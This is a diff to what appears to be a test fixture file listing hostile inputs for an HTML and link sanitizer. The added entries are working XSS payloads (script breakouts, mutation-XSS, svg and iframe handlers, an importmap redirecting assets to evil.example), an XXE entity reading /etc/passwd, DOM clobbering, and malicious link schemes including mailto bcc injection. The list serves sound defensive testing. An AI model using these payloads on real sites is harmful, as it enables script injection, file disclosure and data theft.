@@ -54,6 +54,26 @@ export const hostileMarkup: readonly string[] = [
   `"onmouseover="${script}" x="`,
   `'-(${script})-'`,
   `";${script};//`,
+  // In a script's text, this opens a state in which `</script>` closes nothing.
+  `<!--<script>`,
+  `</SCRIPT ><script>${script}</script>`,
+  `<sc\u0000ript>${script}</sc\u0000ript>`,
+  // Where a text is put into a page by replacing, these stand for what was around it.
+  `$&$\`$'<script>${script}</script>`,
+  // Parsers read these differently when they are written and read again.
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;">`,
+  `<svg></p><style><a id="</style><img src=x onerror=${script}>">`,
+  `<svg><style><img src=x onerror=${script}></style></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"></use></svg>`,
+  `<svg><set attributeName=onmouseover to=${script}></svg>`,
+  `<iframe src="data:text/html,<script>parent.${script}</script>"></iframe>`,
+  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${script}>`,
+  `<button popovertarget=x></button><p popover id=x onbeforetoggle=${script}>`,
+  `<script type="importmap">{"imports":{"/assets/":"https://evil.example/"}}</script>`,
+  `<?xml-stylesheet href="javascript:${script}"?>`,
+  `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
+  // Elements whose names hide properties of the document.
+  `<img name="earlyAnswers"><form id="hacked"></form>`,
 ]
 
 /** Addresses of links that are not pages or mail addresses, or not what they look like. */
@@ -102,6 +122,17 @@ export const hostileLinks: readonly string[] = [
   ``,
   `https://matchfit.example/\u202egpj.exe`,
   `https://matchfit.example/${'a'.repeat(2000)}`,
+  `https:/evil.example`,
+  `https:evil.example`,
+  `https://matchfit.example%00.evil.example`,
+  `\u2028javascript:${script}`,
+  `ｊａｖａｓｃｒｉｐｔ:${script}`,
+  `jar:https://evil.example/a.jar!/a`,
+  `ms-word:ofe|u|https://evil.example/a.docx`,
+  `tel:+15550100`,
+  `mailto:`,
+  `mailto:a@matchfit.example?subject=a%0d%0abcc:b@evil.example`,
+  `mailto:a@matchfit.example?subject=a%0Abcc:b@evil.example`,
 ]
 
 /** Addresses of pictures that are not ours. */
